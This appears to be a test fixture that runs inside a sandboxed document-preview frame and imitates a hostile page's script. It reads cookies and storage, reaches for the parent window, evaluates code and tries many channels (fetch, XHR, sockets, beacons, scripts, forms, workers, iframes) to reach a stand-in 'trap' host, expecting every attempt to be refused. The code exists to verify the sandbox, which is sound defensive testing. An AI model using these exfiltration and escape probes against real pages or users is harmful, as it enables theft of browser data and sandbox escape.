/**
 * Run inside the frame of a preview by `preview.test.ts`, as a script of a hostile document would be: every way out that one could try.
 * `refused` is what each must end in.
 */
export async function attack({ trap, own }) {
  const outcomes = {};
  const attempt = async (name, run) => {
    try {
      const value = await Promise.race([
        Promise.resolve(run()),
        new Promise((resolve) => setTimeout(() => resolve('refused'), 1_000)),
      ]);
      outcomes[name] =
        value === 'refused' || value === null || value === false ? 'refused' : `got ${String(value)}`;
    } catch {
      outcomes[name] = 'refused';
    }
  };
  /** An element that loads something answers by an event. */
  const element = (tag, attributes) =>
    new Promise((resolve) => {
      const each = document.createElement(tag);
      each.onload = () => resolve('loaded');
      each.onerror = () => resolve('refused');
      for (const [name, value] of Object.entries(attributes)) each.setAttribute(name, value);
      document.body.append(each);
    });
  await attempt('cookies', () => document.cookie);
  await attempt('local storage', () => localStorage.length);
  await attempt('session storage', () => sessionStorage.length);
  await attempt('databases', () => indexedDB.databases());
  await attempt('caches', () => caches.keys());
  await attempt('parent', () => window.parent.document.title);
  await attempt('name of the parent', () => window.parent.location.href);
  await attempt(
    'evaluated code',
    () =>
      new Promise((resolve) => {
        // Later, when it is the page itself that runs it and no longer the test.
        setTimeout(() => {
          try {
            resolve(new Function('return 1')());
          } catch {
            resolve('refused');
          }
        });
      }),
  );
  await attempt('fetch elsewhere', () => fetch(`${trap}/fetch`, { mode: 'no-cors' }));
  await attempt('fetch of the product', () => fetch(`${own}/api/v1/about`));
  await attempt('request', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${trap}/xhr`, false);
    request.send();
    return request.status;
  });
  await attempt(
    'socket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${trap.replace('http', 'ws')}/socket`);
        socket.onerror = () => resolve('refused');
        socket.onopen = () => resolve('open');
      }),
  );
  await attempt(
    'events',
    () =>
      new Promise((resolve) => {
        const events = new EventSource(`${trap}/events`);
        events.onerror = () => resolve('refused');
        events.onopen = () => resolve('open');
      }),
  );
  // It says that it was queued even where the policy drops it: the trap tells.
  navigator.sendBeacon(`${trap}/beacon`, 'x');
  await attempt('script', () => element('script', { src: `${trap}/script` }));
  await attempt('script of the API', () => element('script', { src: `${own}/api/v1/openapi.json` }));
  await attempt('module', () => import(`${trap}/module`));
  await attempt('style', () => element('link', { rel: 'stylesheet', href: `${trap}/style` }));
  await attempt('picture', () => element('img', { src: `${trap}/picture` }));
  await attempt('picture of the product', () => element('img', { src: `${own}/icon.svg` }));
  await attempt('sound', () => element('audio', { src: `${trap}/sound` }));
  await attempt('object', () => element('object', { data: `${trap}/object` }));
  await attempt('prefetch', () => element('link', { rel: 'prefetch', href: `${trap}/prefetch` }));
  await attempt('font', () => new FontFace('x', `url(${trap}/font)`).load());
  await attempt('window', () => window.open(`${trap}/window`));
  await attempt('worker', () => new Worker(`${own}/assets/nothing.js`) && 'made');
  await attempt(
    'worker of a blob',
    () =>
      new Promise((resolve) => {
        const source = `fetch('${trap}/worker', { mode: 'no-cors' }).then(() => postMessage('got'), () => postMessage('refused'))`;
        new Worker(URL.createObjectURL(new Blob([source]))).onmessage = ({ data }) => resolve(data);
      }),
  );
  const form = document.createElement('form');
  form.action = `${trap}/form`;
  document.body.append(form);
  form.submit();
  const inner = document.createElement('iframe');
  inner.src = `${trap}/inner`;
  document.body.append(inner);
  try {
    Object.assign(window.top ?? {}, { location: `${trap}/top` });
  } catch {
    // Refused, as it must be; the trap tells.
  }
  return outcomes;
}
